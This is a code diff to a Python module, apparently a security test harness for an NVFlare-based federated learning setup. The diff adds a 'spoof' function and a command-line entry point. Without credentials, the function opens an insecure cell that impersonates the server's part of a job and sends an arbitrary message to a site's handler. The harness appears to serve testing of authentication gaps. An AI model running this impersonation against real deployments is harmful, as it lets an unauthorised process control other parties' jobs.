@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import sys
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
@@ -11,6 +12,7 @@ from typing import Any
 
 import numpy as np
 from nvflare.collab import CollabCallError, collab
+from nvflare.collab.api.call_opt import CallOption
 from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
 from nvflare.private.admin_defs import Message
 from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
@@ -66,10 +68,10 @@ def _spy(name: str, others: list[Any], cell: Any, kit: Path) -> None:
 def _call(other: Any) -> str:
     """Greet another site as a coordinator would; it may not be up yet."""
     from eigenpact.runtime import wire
-    from eigenpact.runtime.mail import PREFIX, _checksum
+    from eigenpact.runtime.letters import PREFIX, checksum
 
     payload, after = wire.pack(GREETING), bytes(PREFIX)
-    message = after + _checksum(after + _checksum(payload)) + bytes(payload)
+    message = after + checksum(after + checksum(payload)) + bytes(payload)
     deadline = time.monotonic() + WITHIN
     while True:
         try:
@@ -78,3 +80,23 @@ def _call(other: Any) -> str:
             if "only the coordinator may call" in str(error) or time.monotonic() > deadline:
                 return f"refused: {error}"
         time.sleep(0.5)
+
+
+def spoof(url: str, job: str, site: str, message: bytes) -> str:
+    """From a process of the site's own machine, without any credential: call the site's part of a job as the server's part."""
+    from nvflare.collab.runtime.cell_dispatcher import CellDispatcher
+    from nvflare.fuel.f3.cellnet.cell import Cell
+
+    cell = Cell(fqcn=f"server.{job}", root_url="", secure=False, credentials={}, create_internal_listener=False, parent_url=url)
+    cell.start()
+    try:
+        calls = CellDispatcher(None, None, "server", cell, f"{site}.{job}", None, None)
+        return repr(calls._call_target(None, f"{site}.client", CallOption(timeout=3.0), "handle", data=message))
+    except CollabCallError as error:
+        return f"no answer: {error}"
+    finally:
+        cell.stop()
+
+
+if __name__ == "__main__":
+    print(spoof(*sys.argv[1:4], bytes.fromhex(sys.argv[4])))
